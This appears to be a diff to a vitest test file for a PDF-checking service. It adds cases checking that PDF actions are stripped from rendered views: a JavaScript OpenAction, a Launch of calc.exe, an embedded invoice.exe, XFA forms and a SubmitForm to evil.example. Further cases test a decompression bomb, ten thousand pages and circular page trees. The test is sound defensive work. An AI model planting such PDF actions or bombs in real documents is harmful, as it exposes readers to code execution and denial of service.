@@ -1,9 +1,10 @@
+import { deflateSync } from "node:zlib";
 import sharp from "sharp";
 import { afterAll, expect, test } from "vitest";
 import { drawDocument } from "../../test/pictures/documents.ts";
 import { emptyPicture, portrait } from "../../test/pictures/faces.ts";
 import { jpegFile, openTestChecks, pdfFile, pngFile } from "../../test/pictures/open-checks.ts";
-import { lockedPdf, picturePdf } from "../../test/pictures/pdf.ts";
+import { lockedPdf, pdfOf, picturePdf } from "../../test/pictures/pdf.ts";
 import { amara } from "../../test/pictures/people.ts";
 import { photograph, scan } from "../../test/pictures/photograph.ts";
 
@@ -143,20 +144,80 @@ test("FIL-06 a view is re-encoded: upright, without EXIF, GPS, XMP or profile", 
 
 const aPicture = async () => ({ jpeg: await scan(licence, { width: 1600 }), width: 1600, height: 1010 });
 
-test("FIL-08 (in part) a PDF of a scanning app is judged by its first page and viewed as a picture without its actions", async () => {
-  const file = pdfFile(
-    picturePdf({
-      ...(await aPicture()),
-      catalogue:
-        "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> /AA << /WC << /S /Launch /F (calc) >> >>",
-    }),
-  );
-  expect(await checks.checkDocument(file, { expectsZone: false })).toMatchObject({ outcome: "ok" });
-  const view = await checks.view(file, 1);
-  if (view.outcome !== "ok") throw new Error(view.reason);
-  expect(view.pages).toBe(1);
-  expect((await sharp(view.content).metadata()).format).toBe("jpeg");
-  expect(["/JS", "/OpenAction", "/Launch"].filter((word) => view.content.includes(word))).toEqual([]);
+/** What a PDF may carry that acts, or hides something else. */
+const ACTIONS: readonly (readonly [what: string, catalogue: string])[] = [
+  ["a script that runs when it is opened", "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"],
+  ["a program that is started when it is closed", "/AA << /WC << /S /Launch /F (calc.exe) >> >>"],
+  [
+    "another file inside",
+    "/Names << /EmbeddedFiles << /Names [(invoice.exe) << /Type /Filespec /F (invoice.exe) /EF << /F 5 0 R >> >>] >> >>",
+  ],
+  [
+    "a form with a script of its own (XFA)",
+    "/AcroForm << /XFA [(template) 5 0 R] /Fields [] >> /NeedsRendering true",
+  ],
+  [
+    "a form that sends itself",
+    "/AcroForm << /Fields [] >> /OpenAction << /S /SubmitForm /F (https://evil.example/) >>",
+  ],
+];
+
+test.each(ACTIONS)(
+  "FIL-08 (in part) a PDF with %s is judged by its page, and shown as a picture without it",
+  async (_what, catalogue) => {
+    const file = pdfFile(picturePdf({ ...(await aPicture()), catalogue }));
+    expect(await checks.checkDocument(file, { expectsZone: false })).toMatchObject({ outcome: "ok" });
+    const view = await checks.view(file, 1);
+    if (view.outcome !== "ok") throw new Error(view.reason);
+    expect(view.pages).toBe(1);
+    expect((await sharp(view.content).metadata()).format).toBe("jpeg");
+    const acting = ["/JS", "/OpenAction", "/Launch", "/EmbeddedFiles", "/XFA", "invoice.exe", "evil.example"];
+    expect(acting.filter((word) => view.content.includes(word))).toEqual([]);
+  },
+);
+
+/** Pages of a PDF, all of them the same object. */
+const pdfOfPages = (pages: number): Buffer =>
+  pdfOf([
+    { dictionary: "<< /Type /Catalog /Pages 2 0 R >>" },
+    { dictionary: `<< /Type /Pages /Kids [${"3 0 R ".repeat(pages)}] /Count ${pages} >>` },
+    { dictionary: "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> >>" },
+  ]);
+
+/** Streams that unpack to far more than they weigh. */
+const bombOfPage = (): Buffer => {
+  const stream = deflateSync(Buffer.alloc(100 * 2 ** 20, "0 0 1 1 re f "), { level: 9 });
+  return pdfOf([
+    { dictionary: "<< /Type /Catalog /Pages 2 0 R >>" },
+    { dictionary: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>" },
+    {
+      dictionary: "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >> >>",
+    },
+    { dictionary: `<< /Length ${stream.length} /Filter /FlateDecode >>`, stream },
+  ]);
+};
+
+/** Pages below pages that are their own parents, and a table that names itself as the one before. */
+const circles = (): readonly Buffer[] => [
+  pdfOf([
+    { dictionary: "<< /Type /Catalog /Pages 2 0 R >>" },
+    { dictionary: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>" },
+    { dictionary: "<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 2 >>" },
+  ]),
+  pdfOf([{ dictionary: "<< /Type /Catalog /Pages 1 0 R >>" }], "/Prev 9"),
+];
+
+test("FIL-08 (in part) ten thousand pages, a page that unpacks to a hundred megabytes, and circles end within the limits, and the next file is checked", async () => {
+  const limited = openTestChecks({ timeoutMs: 20_000, maxMemoryBytes: 900 * 2 ** 20 });
+  const many = pdfFile(pdfOfPages(10_000));
+  expect(await limited.inspect(many)).toMatchObject({ outcome: "ok" });
+  expect(await limited.view(many, 10_000)).toMatchObject({ outcome: "ok", pages: 10_000 });
+  const ends = ["ok", "no-document", "not-checked"];
+  for (const content of [bombOfPage(), ...circles()]) {
+    expect(ends).toContain((await limited.view(pdfFile(content), 1)).outcome);
+  }
+  expect(await limited.view(pdfFile(picturePdf(await aPicture())), 1)).toMatchObject({ outcome: "ok" });
+  await limited.close();
 });
 
 test("FIL-08 (in part) a protected PDF, a broken one and a missing page are reported as such", async () => {
